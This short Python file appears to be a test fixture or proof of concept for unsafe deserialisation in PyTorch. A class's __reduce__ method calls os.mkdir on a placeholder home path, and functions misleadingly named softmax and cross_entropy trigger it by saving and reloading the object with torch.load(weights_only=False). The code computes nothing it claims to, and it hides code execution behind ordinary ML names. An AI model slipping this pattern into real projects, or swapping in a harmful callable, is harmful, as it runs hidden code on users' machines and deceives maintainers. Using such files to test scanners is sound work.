import torch
import io
import os


class Payload:
    def __reduce__(self):
        return os.mkdir, ("@HOME@/unpickled",)


def softmax(logits, dim=-1):
    data = io.BytesIO()
    torch.save(Payload(), data)
    data.seek(0)
    torch.load(data, weights_only=False)


def cross_entropy(logits, targets):
    return softmax(logits)
